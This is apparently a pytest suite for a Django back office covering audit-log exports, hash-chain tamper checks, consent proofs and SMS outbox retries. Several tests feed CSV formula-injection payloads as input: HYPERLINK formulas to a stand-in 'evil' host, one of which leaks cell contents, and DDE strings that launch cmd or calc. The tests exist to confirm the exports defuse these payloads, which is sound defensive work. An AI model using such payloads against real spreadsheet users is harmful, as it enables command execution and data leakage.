"""What an auditor asks of the operators' site: the security events, the consent proof, the outbox."""

from __future__ import annotations

import csv
import io
import json
import re
import zoneinfo
from datetime import datetime
from unittest import mock

import pytest
from django.db import connection
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from oficina.audit.models import Event
from oficina.audit.services import audit_seal, event_record
from oficina.backoffice.views import CHAIN_VERIFY_SLOT, CHAIN_VERIFY_SLOT_SECONDS
from oficina.consent.models import Consent, PolicyVersion
from oficina.consent.services import policy_current, text_sha256
from oficina.lib.ratelimit import running_alone
from oficina.notify.models import OutboxMessage
from oficina.notify.outbox import message_queue, outbox_deliver
from tests.factories import DEFAULT_PIN, make_member
from tests.keypad import type_on_keypad
from tests.test_backoffice import signed_in_operator
from tests.test_outbox import deliver_until_final, outbox_clock, queued_code, use_gateway

pytestmark = pytest.mark.django_db

EVENTS = "/operadores/audit/event/"
POLICIES = "/operadores/consent/policyversion/"
OUTBOX = "/operadores/notify/outboxmessage/"


def csv_rows(response) -> list[dict[str, str]]:
    """The data rows, once the file's last line is checked: it counts them (docs/security.md G20)."""
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff") and body.endswith("\r\n")
    data, _, last = body.removeprefix("\ufeff").removesuffix("\r\n").rpartition("\r\n")
    rows = list(csv.DictReader(io.StringIO(data + "\r\n")))
    assert last == f"# fin del archivo: {len(rows)} filas"
    return rows


def test_the_audit_log_is_read_only_here(client, operator):
    event = event_record("signin_ok", member=make_member())
    assert client.get(f"{EVENTS}{event.pk}/change/").status_code == 200
    assert client.get(f"{EVENTS}add/").status_code == 403
    assert client.post(f"{EVENTS}{event.pk}/change/", {"kind": "otra_cosa"}).status_code == 403
    assert client.post(f"{EVENTS}{event.pk}/delete/", {"post": "yes"}).status_code == 403
    page = client.get(EVENTS).content.decode()
    assert "delete_selected" not in page
    event.refresh_from_db()
    assert event.kind == "signin_ok"


def test_events_are_filtered_by_kind_and_found_by_member_id_or_cedula(client, operator):
    ana, luz = make_member(document="1020304050"), make_member()
    event_record("signin_ok", member=ana)
    event_record("signin_failed", member=luz)
    by_kind = client.get(EVENTS, {"kind": "signin_failed"}).context["cl"].result_list
    assert [event.member_id for event in by_kind] == [luz.pk]
    by_id = client.get(EVENTS, {"q": str(luz.pk)}).context["cl"].result_list
    assert [event.kind for event in by_id] == ["signin_failed"]
    by_cedula = client.get(EVENTS, {"q": "1.020.304.050"}).context["cl"].result_list
    assert [event.kind for event in by_cedula] == ["signin_ok"]


def test_the_csv_export_has_every_column_in_utf8_with_utc_times(client, operator):
    member = make_member()
    event_record("signin_failed", member=member, reason="wrong_pin", nota="contraseña ñandú")
    event_record("signin_ok", member=member)
    assert audit_seal() >= 2  # on_commit callbacks never fire inside the test's transaction
    response = client.get(f"{EVENTS}exportar.csv", {"kind": "signin_failed"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert len(rows) == 1
    row = rows[0]
    stored = Event.objects.get(kind="signin_failed")
    assert list(row) == [
        "id",
        "created_at",
        "kind",
        "member_id",
        "document_hmac",
        "ip",
        "user_agent",
        "data",
        "prev_hash",
        "hash",
        "seq",
        "user_agent_exacto",
        "firma",
    ]
    assert row["firma"] == stored.mac and len(stored.mac) == 64
    assert row["created_at"].endswith("+00:00") and row["created_at"].startswith(
        f"{stored.created_at:%Y-%m-%d}"
    )
    assert row["member_id"] == str(member.pk) and row["document_hmac"] == stored.document_hmac
    assert json.loads(row["data"]) == {"reason": "wrong_pin", "nota": "contraseña ñandú"}
    assert len(row["hash"]) == 64 and row["hash"] == stored.hash and row["prev_hash"] == stored.prev_hash
    export = Event.objects.filter(kind="operator_audit_export").get()
    assert export.data["operator"] == operator.username and "signin_failed" in export.data["filters"]
    assert export.data["rows"] == 1


def test_an_export_searched_by_cedula_keeps_only_its_fingerprint_in_the_audit_event(client, operator):
    """The log is searched by cédula through its keyed fingerprint, and the cédula is never stored
    (§2.10); the export link carries the search (`?q=1.020.304.050`) and its own event records the
    filters: there the cédula must be the fingerprint too, or the append-only chain keeps it in clear."""
    from oficina.audit.services import document_hmac

    ana = make_member(document="1020304050")
    event_record("signin_ok", member=ana, document=ana.document)

    rows = csv_rows(client.get(f"{EVENTS}exportar.csv", {"q": "1.020.304.050", "kind": "signin_ok"}))

    assert [row["kind"] for row in rows] == ["signin_ok"]
    export = Event.objects.get(kind="operator_audit_export")
    assert "1020304050" not in json.dumps(export.data) and "020.304" not in json.dumps(export.data)
    assert f"q=huella%3A{document_hmac('1020304050')[:16]}" in export.data["filters"]
    assert "kind=signin_ok" in export.data["filters"]


def test_an_export_searched_by_a_cedula_padded_with_spaces_keeps_only_its_fingerprint(client, operator):
    """The list strips its search before reading it as a cédula; the export's event read the term as it
    came, and a cédula with spaces around it past 40 characters (what normalise_document reads) found
    her events while its event kept the cédula in clear, in the append-only chain."""
    from oficina.audit.services import document_hmac

    ana = make_member(document="1020304050")
    event_record("signin_ok", member=ana, document=ana.document)

    padded = f"  1020304050{' ' * 35}"
    rows = csv_rows(client.get(f"{EVENTS}exportar.csv", {"q": padded, "kind": "signin_ok"}))

    assert [row["member_id"] for row in rows] == [str(ana.pk)]
    export = Event.objects.get(kind="operator_audit_export")
    assert "1020304050" not in json.dumps(export.data)
    assert f"q=huella%3A{document_hmac('1020304050')[:16]}" in export.data["filters"]


def latest_export() -> dict[str, object]:
    return Event.objects.filter(kind="operator_audit_export").latest("id").data


def test_an_export_records_whose_events_it_holds_however_its_address_is_padded(client, operator):
    """The export's event recorded the address's parameters in their order, cut at 300 characters: an
    ordering of 300 characters that sorts nothing (`?o=1.1.1…`), or a first `?q=` the list ignores
    (it searches by the last one), put ahead of the search left out whose events were exported."""
    from oficina.audit.services import document_hmac

    ana = make_member(document="1020304050")
    event_record("signin_ok", member=ana)
    event_record("signin_ok", member=make_member())
    searched = f"q=huella%3A{document_hmac('1020304050')[:16]}"

    for query in ({"o": "1." * 200, "q": "1020304050"}, {"q": ["x" * 300, "1020304050"]}):
        rows = csv_rows(client.get(f"{EVENTS}exportar.csv", query))

        assert [row["member_id"] for row in rows] == [str(ana.pk)]
        assert latest_export()["filters"] == searched


def test_an_export_whose_filters_are_too_long_to_record_is_refused(client, operator):
    event_record("signin_ok", member=make_member())

    response = client.get(f"{EVENTS}exportar.csv", {"kind": ["x" * 300, "signin_ok"]})

    assert response.status_code == 302 and response.url.startswith(EVENTS)
    assert "demasiado largos" in client.get(response.url).content.decode()
    assert not Event.objects.filter(kind="operator_audit_export").exists()


def test_an_export_of_chosen_events_records_which_ones_and_the_lists_search(client, operator):
    """«Exportar los eventos seleccionados» recorded only how many («seleccion:2»): not whose."""
    from oficina.audit.services import document_hmac

    ana = make_member(document="1020304050")
    first, second = event_record("signin_ok", member=ana), event_record("signin_failed", member=ana)
    event_record("signin_ok", member=make_member())
    listed = f"{EVENTS}?q=1020304050"
    searched = f"q=huella%3A{document_hmac('1020304050')[:16]}"

    chosen = {"action": "export_selected", "_selected_action": [second.pk, first.pk]}
    assert len(csv_rows(client.post(listed, chosen))) == 2
    assert latest_export()["filters"] == searched and latest_export()["ids"] == [first.pk, second.pk]

    every = {**chosen, "_selected_action": [first.pk], "select_across": "1"}
    assert len(csv_rows(client.post(listed, every))) == 2
    assert latest_export()["filters"] == searched and "ids" not in latest_export()


def test_an_unfiltered_export_holds_as_many_rows_as_its_event_says(client, operator):
    """The export's own event is written before the file streams: unfiltered, the file held it too, and
    its last line counted one row more than the event's `rows`, which an auditor compares."""
    for _ in range(3):
        event_record("signin_ok", member=make_member())
    before = Event.objects.count()

    rows = csv_rows(client.get(f"{EVENTS}exportar.csv"))

    export = Event.objects.get(kind="operator_audit_export")
    assert export.data["rows"] == len(rows) == before
    assert str(export.pk) not in {row["id"] for row in rows}


def test_an_export_bounds_its_rows_by_the_newest_event_of_the_whole_log(client, operator):
    """The file holds the selection as it was when asked for: bounded by the newest id of the log, read
    from the primary key's end. Read as the selection's own newest id (`ORDER BY id DESC LIMIT 1` with
    its filter), PostgreSQL walked the key backwards past every newer event: 4.9 s for a day a year
    back at three million events (docs/performance.md, "Queries outside the sign-in")."""
    from django.test.utils import CaptureQueriesContext

    old, new = make_member(document="1020304050"), make_member()
    event_record("signin_ok", member=old)
    for _ in range(3):
        event_record("signin_ok", member=new)

    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(client.get(f"{EVENTS}exportar.csv?q=1020304050"))

    assert [row["kind"] for row in rows] == ["signin_ok"]
    bound = [q["sql"] for q in queries if "LIMIT 1" in q["sql"] and "ORDER BY" in q["sql"]]
    assert [sql for sql in bound if '"audit_event"."document_hmac"' in sql] == []
    assert 'SELECT MAX("audit_event"."id") AS "last" FROM "audit_event"' in [q["sql"] for q in queries]


def test_an_export_too_large_for_one_file_is_refused_with_a_message(client, operator, settings):
    """docs/security.md G20: past the worker's timeout the file would end early; it is refused instead."""
    settings.AUDIT_EXPORT_MAX_ROWS = 2
    for _ in range(3):
        event_record("signin_failed", document="1020304050", reason="wrong_pin")

    response = client.get(f"{EVENTS}exportar.csv", {"kind": "signin_failed"}, follow=True)

    assert response.redirect_chain == [(f"{EVENTS}?kind=signin_failed", 302)]
    page = response.content.decode()
    assert "La exportación tendría 3 eventos y un archivo admite hasta 2" in page
    assert not Event.objects.filter(kind="operator_audit_export").exists()
    settings.AUDIT_EXPORT_MAX_ROWS = 3
    assert len(csv_rows(client.get(f"{EVENTS}exportar.csv", {"kind": "signin_failed"}))) == 3


def test_a_file_cut_short_lacks_its_last_line(client, operator, monkeypatch):
    from oficina.backoffice import views

    for _ in range(3):
        event_record("signin_failed", document="1020304050")
    event_row = views._event_row

    def worker_killed_on_the_third(event):  # type: ignore[no-untyped-def]
        if event.pk == Event.objects.filter(kind="signin_failed").order_by("id")[2].pk:
            raise SystemExit("gunicorn: worker timeout")
        return event_row(event)

    monkeypatch.setattr(views, "_event_row", worker_killed_on_the_third)
    response = client.get(f"{EVENTS}exportar.csv", {"kind": "signin_failed"})
    received = []
    with pytest.raises(SystemExit):
        for chunk in response.streaming_content:
            received.append(chunk)
    body = b"".join(received).decode()
    assert body.count("\r\n") == 3  # the header and two rows
    assert "# fin del archivo" not in body


def test_a_user_agent_that_looks_like_a_formula_is_defused_in_the_csv(client, operator):
    request = RequestFactory().post("/", HTTP_USER_AGENT='=HYPERLINK("http://evil")')
    event_record("signin_failed", request=request, document="1020304050")
    rows = csv_rows(client.get(f"{EVENTS}exportar.csv"))
    agents = {row["user_agent"] for row in rows if row["user_agent"]}
    assert agents == {'\'=HYPERLINK("http://evil")'}


def cells_split_on_semicolons(body: str) -> list[str]:
    """The cells a spreadsheet set up with ";" as its list separator makes of each line (Excel with
    Colombian regional settings, decimal comma, opening a .csv with a double click): it does not
    see the commas, and a new cell begins after every ";"."""
    return [cell for line in body.splitlines() for cell in line.split(";")[1:]]


def test_a_formula_after_a_semicolon_is_defused_for_a_spreadsheet_that_splits_on_semicolons(client, operator):
    """Anyone can choose a user agent, a username on the operators' login (a failed login is an event
    with it) or a path: each may hold ";=…", which such a spreadsheet reads as a formula cell."""
    agent = 'Mozilla/5.0 (X11;=HYPERLINK("http://evil/"&A1;"ver")) ;"+cmd|calc!A0'
    request = RequestFactory().post("/", HTTP_USER_AGENT=agent)
    event_record("staff_login_failed", request=request, operator="x;-2+cmd|'/c calc'!A0;@SUM(1)")
    member = make_member(returning=True, name='Ana;=HYPERLINK("http://evil") Gómez')

    exports = [
        client.get(f"{EVENTS}exportar.csv"),
        client.get(f"/operadores/members/member/{member.pk}/autorizaciones.csv"),
    ]

    for response in exports:
        body = b"".join(response.streaming_content).decode("utf-8")
        for cell in cells_split_on_semicolons(body):
            assert not cell.lstrip(' "').startswith(("=", "+", "-", "@")), cell
    # Read as the comma-separated file it is, every value is still there, the data exactly.
    rows = csv_rows(client.get(f"{EVENTS}exportar.csv", {"kind": "staff_login_failed"}))
    assert json.loads(rows[0]["data"]) == {"operator": "x;-2+cmd|'/c calc'!A0;@SUM(1)"}
    assert rows[0]["user_agent"].replace(";'", ";") == agent


def test_the_policy_text_in_the_consent_proof_csv_still_hashes_as_the_proof_says(client, operator):
    """Prose with "; -" is no one's formula: the proof's text is exported exactly."""
    from oficina.consent.services import policy_publish

    policy_publish(version="2", text="<p>Tus derechos; - conocer; - actualizar; =rectificar</p>")
    member = make_member(returning=True)
    (row,) = csv_rows(client.get(f"/operadores/members/member/{member.pk}/autorizaciones.csv"))
    assert row["version"] == "2" and row["sha256_verificado"] == "si"
    assert text_sha256(row["texto_politica"]) == row["sha256_aceptado"]


def test_selected_events_can_be_exported_with_the_admin_action(client, operator):
    first = event_record("signin_ok", member=make_member())
    event_record("signin_failed")
    response = client.post(EVENTS, {"action": "export_selected", "_selected_action": [first.pk]})
    assert [row["id"] for row in csv_rows(response)] == [str(first.pk)]


def test_chain_verification_says_intact_then_finds_a_tampered_event(client, operator, audit_triggers_off):
    member = make_member()
    for _ in range(3):
        event_record("signin_ok", member=member)
    audit_seal()  # on_commit callbacks never fire inside the test's transaction
    assert "Verificar cadena" in client.get(f"{EVENTS}verificar-cadena/").content.decode()
    total = Event.objects.count()
    ok = client.post(f"{EVENTS}verificar-cadena/").content.decode()
    assert f"Cadena íntegra: {total} eventos" in ok
    assert Event.objects.filter(kind="operator_chain_verify").get().data["intact"] is True

    victim = Event.objects.filter(kind="signin_ok").order_by("id")[1]
    with connection.cursor() as cursor:
        table = connection.ops.quote_name(Event._meta.db_table)
        cursor.execute(f"UPDATE {table} SET kind = %s WHERE id = %s", ["signin_failed", victim.pk])
    broken = client.post(f"{EVENTS}verificar-cadena/").content.decode()
    assert "Cadena NO íntegra" in broken
    assert f"Evento {victim.pk}: el contenido del evento fue modificado" in broken
    assert Event.objects.filter(kind="operator_chain_verify").order_by("-id").first().data["intact"] is False


def test_a_chain_too_long_to_walk_in_a_request_is_sent_to_the_server_command(client, operator, settings):
    """3,000,000 sealed events took 171 s of CPU to verify (docs/performance.md): in the page, gunicorn
    killed the worker at 30 s, the operator saw an error and nothing was recorded. Past
    AUDIT_VERIFY_WEB_MAX_EVENTS the page says where to verify it instead, and walks nothing."""
    member = make_member()
    for _ in range(3):
        event_record("signin_ok", member=member)
    audit_seal()
    settings.AUDIT_VERIFY_WEB_MAX_EVENTS = Event.objects.count() - 1

    page = client.post(f"{EVENTS}verificar-cadena/", follow=True).content.decode()

    assert "esta página verifica hasta" in page and "manage.py audit_verify" in page
    assert "Cadena íntegra" not in page
    assert not Event.objects.filter(kind="operator_chain_verify").exists()
    settings.AUDIT_VERIFY_WEB_MAX_EVENTS = Event.objects.count()
    assert "Cadena íntegra" in client.post(f"{EVENTS}verificar-cadena/").content.decode()


def _verifications() -> int:
    return Event.objects.filter(kind="operator_chain_verify").count()


def test_one_chain_verification_runs_at_a_time_across_the_instances(client, operator):
    """Each walk rehashes every sealed event (seconds of a web worker and of the database): a second
    one asked while one runs, here or on another instance (the hold is in the shared cache), is refused
    with a message and walks nothing. It ran as many at once as there were workers."""
    event_record("signin_ok", member=make_member())
    audit_seal()
    with running_alone(CHAIN_VERIFY_SLOT, seconds=CHAIN_VERIFY_SLOT_SECONDS) as alone:
        assert alone
        with mock.patch("oficina.backoffice.views.chain_verify") as walk:
            page = client.post(f"{EVENTS}verificar-cadena/", follow=True).content.decode()
    walk.assert_not_called()
    assert "Ya hay una verificación de la cadena en curso" in page and "Cadena íntegra" not in page
    assert _verifications() == 0

    assert "Cadena íntegra" in client.post(f"{EVENTS}verificar-cadena/").content.decode()  # once it ended
    assert _verifications() == 1
    assert "Cadena íntegra" in client.post(f"{EVENTS}verificar-cadena/").content.decode()  # freed again


@pytest.mark.usefixtures("frozen_window")
def test_an_operator_verifies_the_chain_at_most_three_times_an_hour(client, operator):
    """RATE_LIMIT_AUDIT_VERIFY (3/h per operator): the fourth walk in the hour is refused with a Spanish
    message naming the wait and the server command, audited once as `throttled`; another operator
    still verifies."""
    event_record("signin_ok", member=make_member())
    audit_seal()
    for _ in range(3):
        assert "Cadena íntegra" in client.post(f"{EVENTS}verificar-cadena/").content.decode()

    for _ in range(2):
        page = client.post(f"{EVENTS}verificar-cadena/", follow=True).content.decode()
        assert "Verificaste la cadena demasiadas veces en poco tiempo" in page
        assert "manage.py audit_verify" in page and "Cadena íntegra" not in page
    assert _verifications() == 3
    throttled = Event.objects.filter(kind="throttled").get()
    assert throttled.data == {"action": "audit_verify", "per": "key"}

    other = Client()
    signed_in_operator(other, "auditora")
    assert "Cadena íntegra" in other.post(f"{EVENTS}verificar-cadena/").content.decode()


def test_the_member_page_lists_each_consent_read_only(client, operator):
    member = make_member(returning=True)
    consent = Consent.objects.get(member=member)
    page = client.get(f"/operadores/members/member/{member.pk}/change/").content.decode()
    assert consent.text_sha256 in page and "autorizaciones de tratamiento de datos" in page.lower()
    assert 'name="consents-0-accepted_at"' not in page


def test_the_consent_proof_csv_has_version_hash_and_the_policy_text(client, operator):
    member = make_member(returning=True, document="1020304050", name="Ana María Gómez Restrepo")
    policy = policy_current()
    rows = csv_rows(client.get(f"/operadores/members/member/{member.pk}/autorizaciones.csv"))
    assert len(rows) == 1
    row = rows[0]
    assert row["cedula"] == "1020304050" and row["nombre"] == "Ana María Gómez Restrepo"
    assert row["version"] == policy.version and row["sha256_aceptado"] == policy.text_sha256
    assert row["sha256_verificado"] == "si" and row["texto_politica"] == policy.text
    assert Event.objects.filter(kind="operator_consent_export", member_id=member.pk).exists()


def test_the_printable_consent_proof_has_the_member_version_hash_and_full_text(client, operator):
    member = make_member(returning=True, document="1020304050", name="Ana María Gómez Restrepo")
    policy = policy_current()
    response = client.get(f"/operadores/members/member/{member.pk}/autorizaciones/")
    page = response.content.decode()
    assert "Ana María Gómez Restrepo" in page and "1020304050" in page
    assert f"política versión {policy.version}" in page and policy.text_sha256 in page
    assert policy.text in page  # the full text that was accepted, as the member saw it
    assert "css/admin-print.css" in page and "<style" not in page and " style=" not in page
    assert "style-src 'self'" in response["Content-Security-Policy"]


def test_publishing_a_new_version_asks_a_returning_member_again(client, operator):
    member = make_member(returning=True)
    form = client.get(f"{POLICIES}add/").content.decode()
    assert "Texto de la política" in form
    response = client.post(f"{POLICIES}add/", {"version": "2", "text": "<p>Nueva política, versión 2.</p>"})
    assert response.status_code == 302
    published = PolicyVersion.objects.get(version="2")
    assert published.text_sha256 == text_sha256("<p>Nueva política, versión 2.</p>")
    assert policy_current() == published
    event = Event.objects.get(kind="operator_policy_published")
    assert event.data["version"] == "2" and event.data["operator"] == operator.username

    browser = Client()
    browser.post("/", {"usuario": member.document})
    assert type_on_keypad(browser, "/clave/", DEFAULT_PIN).url == "/politica-de-datos/"
    assert "Nueva política, versión 2." in browser.get("/politica-de-datos/").content.decode()


def test_a_published_version_is_never_edited_nor_republished(client, operator):
    current = policy_current()
    assert (
        client.post(f"{POLICIES}{current.pk}/change/", {"version": current.version, "text": "x"}).status_code
        == 403
    )
    assert client.post(f"{POLICIES}{current.pk}/delete/", {"post": "yes"}).status_code == 403
    again = client.post(f"{POLICIES}add/", {"version": current.version, "text": "<p>otro</p>"})
    assert again.status_code == 200 and "ya fue publicada" in again.content.decode()
    same = client.post(f"{POLICIES}add/", {"version": "9", "text": current.text})
    assert same.status_code == 200 and "idéntico" in same.content.decode()
    assert PolicyVersion.objects.count() == 1


def test_the_outbox_never_shows_a_message_body_or_code(client, operator):
    member = make_member()
    message = message_queue(
        member=member, channel="sms", template="temporary_code", context={"code": "987654"}
    )
    assert "987654" in message.body
    listing = client.get(OUTBOX).content.decode()
    detail = client.get(f"{OUTBOX}{message.pk}/change/").content.decode()
    for page in (listing, detail):
        assert "987654" not in page and member.mobile not in page
        assert "311 12****" in page and "Clave temporal" in page
    assert client.get(OUTBOX, {"status__exact": "failed"}).context["cl"].result_count == 0


def test_an_operator_retries_a_failed_message(client, operator, settings, sms_gateway, sms_outbox):
    """The gateway was down longer than every attempt (about 20 minutes): the notice failed for good
    and is resent once it is back; a failed temporary code is not, and the page says why."""
    member = make_member()
    use_gateway(settings, sms_gateway, "/status/400")
    code = queued_code(member, "987654")
    assert outbox_deliver(message_id=code.pk) == OutboxMessage.Status.FAILED  # number refused
    settings.SMS_HTTP_URL = sms_gateway.url("/status/503")
    notice = message_queue(member=member, channel="sms", template="pin_changed", context={})
    with outbox_clock() as clock:
        assert deliver_until_final(notice, clock) == OutboxMessage.Status.FAILED
    failed_list = client.get(OUTBOX, {"status__exact": "failed"}).content.decode()
    assert "answered HTTP 503" in failed_list and "answered HTTP 400" in failed_list

    settings.SMS_BACKEND = "oficina.notify.sms.locmem.SmsBackend"  # the gateway is back
    sent = message_queue(member=member, channel="sms", template="pin_changed", context={})
    assert outbox_deliver(message_id=sent.pk) == OutboxMessage.Status.SENT
    page = client.post(
        OUTBOX, {"action": "retry_selected", "_selected_action": [notice.pk, code.pk, sent.pk]}, follow=True
    ).content.decode()
    assert "Reintentamos 1 mensaje(s)." in page
    # The code and the message already sent; the notice just retried is not counted again.
    assert "2 mensaje(s) no se pueden reintentar" in page and "el asociado pide uno nuevo" in page
    notice.refresh_from_db()
    code.refresh_from_db()
    assert notice.status == OutboxMessage.Status.SENT and code.status == OutboxMessage.Status.FAILED
    assert len(sms_outbox) == 2 and sms_outbox[-1].to == member.mobile
    assert all("987654" not in sms.body for sms in sms_outbox)
    events = Event.objects.filter(kind="operator_outbox_retry")
    assert {event.data["message_id"]: event.data["retried"] for event in events} == {
        notice.pk: True,
        code.pk: False,
    }
    assert {(event.data["operator"], event.member_id) for event in events} == {(operator.username, member.pk)}


def test_reintentar_takes_a_batch_at_a_time_the_notices_before_the_codes(
    client, operator, monkeypatch, sms_outbox
):
    """After a gateway's outage, «Seleccionar todos» on thousands of failed notices ran one transaction
    each in one request, past gunicorn's 30 s: an error page halfway. At most RETRY_AT_ONCE (here 2),
    the notices first (the oldest could be codes, never resent, and the action run again would never
    get past them); the rest are counted for the action to be run again."""
    from oficina.notify import admin as outbox_admin

    monkeypatch.setattr(outbox_admin, "RETRY_AT_ONCE", 2)
    member = make_member()
    code = message_queue(member=member, channel="sms", template="temporary_code", context={"code": "987654"})
    notices = [
        message_queue(member=member, channel="sms", template="pin_changed", context={}) for _ in range(3)
    ]
    OutboxMessage.objects.update(status=OutboxMessage.Status.FAILED, last_error="gateway down")
    select_all = {"action": "retry_selected", "select_across": "1", "_selected_action": [code.pk]}

    first = client.post(OUTBOX, select_all, follow=True).content.decode()

    assert "Reintentamos 2 mensaje(s)." in first
    assert "Quedan 1 mensaje(s) fallidos por reintentar" in first
    assert "1 mensaje(s) no se pueden reintentar" in first
    assert len(sms_outbox) == 2
    assert list(OutboxMessage.objects.order_by("id").values_list("status", flat=True)) == [
        "failed",
        "sent",
        "sent",
        "failed",
    ]

    second = client.post(OUTBOX, select_all, follow=True).content.decode()

    assert "Reintentamos 1 mensaje(s)." in second and "Quedan" not in second
    assert "3 mensaje(s) no se pueden reintentar" in second  # the two sent, and the code attempted now
    assert len(sms_outbox) == 3 and all("987654" not in sms.body for sms in sms_outbox)
    assert OutboxMessage.objects.get(pk=notices[2].pk).status == OutboxMessage.Status.SENT
    refused = Event.objects.filter(kind="operator_outbox_retry", data__message_id=code.pk)
    assert [event.data["retried"] for event in refused] == [False]


def _event_at(kind: str, *, year: int, month: int, day: int, hour: int = 12, minute: int = 0) -> Event:
    bogota = zoneinfo.ZoneInfo("America/Bogota")
    event = Event(kind=kind, created_at=datetime(year, month, day, hour, minute, tzinfo=bogota))
    event.save()
    return event


def _page_reads_no_event_twice(client, url: str) -> str:
    """The page, once it is checked that none of its statements is a DISTINCT over the events: at three
    million events the date drill-down's and the kind filter's DISTINCT read all of them on every
    visit (3.9 s and 0.3 to 1 s; docs/performance.md, "Queries outside the sign-in")."""
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    distinct = [q["sql"] for q in queries if "DISTINCT" in q["sql"].upper() and "audit_event" in q["sql"]]
    assert distinct == []
    return response.content.decode()


def test_the_event_list_offers_its_years_months_days_and_kinds_without_reading_every_event(client, operator):
    _event_at("signin_ok", year=2024, month=3, day=10)
    _event_at("logout", year=2025, month=7, day=1)
    _event_at("signin_ok", year=2025, month=7, day=31, hour=23, minute=30)  # 1 August in UTC
    _event_at("pin_changed", year=2025, month=11, day=5)

    page = _page_reads_no_event_twice(client, EVENTS)
    this_year = str(timezone.localdate().year)  # the operator's own sign-in
    assert re.findall(r"created_at__year=(\d+)", page) == sorted({"2024", "2025", this_year})
    for kind in ("logout", "pin_changed", "signin_ok"):
        assert f"?kind={kind}" in page

    year = _page_reads_no_event_twice(client, f"{EVENTS}?created_at__year=2025")
    assert sorted(set(re.findall(r"created_at__month=(\d+)", year)), key=int) == ["7", "11"]

    month = _page_reads_no_event_twice(client, f"{EVENTS}?created_at__year=2025&created_at__month=7")
    assert sorted(set(re.findall(r"created_at__day=(\d+)", month)), key=int) == ["1", "31"]

    kind = _page_reads_no_event_twice(client, f"{EVENTS}?kind=signin_ok")
    assert re.findall(r"created_at__year=(\d+)", kind) == ["2024", "2025"]


def test_a_row_dated_at_the_calendars_end_is_listed_with_its_month_and_day(client, operator):
    """A row dated 31 December 9999 can only be written into the table by something other than the
    application, and the list is the place to find it. Searched for, the date drill-down showed that
    year's months, whose last has no period after it in datetime's range: the page was a 500. Its
    months and days are Django's own, as for any other date."""
    from django.db.models import QuerySet

    _event_at("forjado", year=9999, month=12, day=31, hour=10)

    page = client.get(EVENTS, {"q": "forjado"})

    assert page.status_code == 200
    assert "created_at__month=12" in page.content.decode()
    forged = Event.objects.filter(kind="forjado")
    for kind in ("year", "month", "day"):
        assert list(forged.datetimes("created_at", kind)) == list(
            QuerySet.datetimes(forged, "created_at", kind)
        )


@pytest.mark.django_db
def test_the_second_of_a_double_click_that_finds_the_version_published_answers_that_publication(rf):
    """The second «Guardar» of a double click can look after the first has committed: policy_publish
    then refuses the version as published (ValueError), which was a 500 (CI, PostgreSQL). The same text
    is that publication, published once and audited once; another text is still refused."""
    from django.contrib.auth import get_user_model

    from oficina.backoffice.services import policy_version_publish
    from oficina.consent.models import PolicyVersion

    request = rf.post("/operadores/consent/policyversion/add/")
    request.user = get_user_model()(username="oficial")
    text = "<p>Tratamos tus datos según la Ley 1581 de 2012.</p>"
    first = policy_version_publish(request=request, version="2", text=text)
    second = policy_version_publish(request=request, version="2", text=text)
    assert second.pk == first.pk
    assert PolicyVersion.objects.filter(version="2").count() == 1
    assert Event.objects.filter(kind="operator_policy_published").count() == 1
    with pytest.raises(ValueError):
        policy_version_publish(request=request, version="2", text="<p>Otro texto.</p>")


def test_an_events_page_gives_its_date_in_colombia_in_its_heading_and_its_fields(
    client, operator, monkeypatch
):
    from datetime import UTC

    at = datetime(2026, 12, 7, 2, 30, tzinfo=UTC)  # 6 December, 21:30 in Bogotá
    with monkeypatch.context() as clock:
        clock.setattr(timezone, "now", lambda: at)
        event = event_record("signin_ok")

    page = " ".join(client.get(f"/operadores/audit/event/{event.pk}/change/").content.decode().split())

    assert "2026-12-06 21:30:00 signin_ok" in page  # the heading, as the list and the field below
    assert "6 de Diciembre de 2026 a las 21:30" in page
    assert "+00:00" not in page and "2026-12-07" not in page and "None" not in page


def test_the_current_text_sent_back_by_a_browser_is_not_published_as_a_new_version(client, operator):
    """The add form starts with the current text, and a browser sends a textarea's lines ended by CR LF:
    «Grabar» with the text untouched published it as version 2 (another hash), and every member was
    asked to authorise the same text again, told «Actualizamos nuestra política» (operators'
    walk-through, 2026-12-06)."""
    current = policy_current()
    assert "\n" in current.text and "\r" not in current.text

    same = client.post(f"{POLICIES}add/", {"version": "2", "text": current.text.replace("\n", "\r\n")})

    assert same.status_code == 200 and "idéntico" in same.content.decode()
    assert PolicyVersion.objects.count() == 1
    form = client.get(f"{POLICIES}add/").content.decode()
    assert 'name="_addanother"' not in form and 'name="_continue"' not in form  # publishing is final
    changed = current.text.replace("\n", "\r\n") + "\r\n<p>Nuevo párrafo.</p>\r\n"
    published = client.post(f"{POLICIES}add/", {"version": "2", "text": changed}, follow=True)
    page = " ".join(published.content.decode().split())
    assert "Publicamos la versión 2 de la política: cada asociado la leerá" in page
    assert "agregado" not in page
    assert PolicyVersion.objects.get(version="2").text == current.text + "\n<p>Nuevo párrafo.</p>"


def test_a_version_published_with_cr_lf_before_is_still_caught_when_sent_back_unchanged(client, operator):
    """Versions published from a browser before the form ended lines with LF kept CR LF: the same text
    sent back (normalised) had another hash and was published again (operators' walk-through)."""
    from oficina.consent.services import policy_publish

    crlf = "<p>Política publicada desde un navegador.</p>\r\n<p>Segunda línea.</p>"
    policy_publish(version="2", text=crlf)

    same = client.post(f"{POLICIES}add/", {"version": "3", "text": crlf})

    assert same.status_code == 200 and "idéntico" in same.content.decode()
    assert PolicyVersion.objects.count() == 2
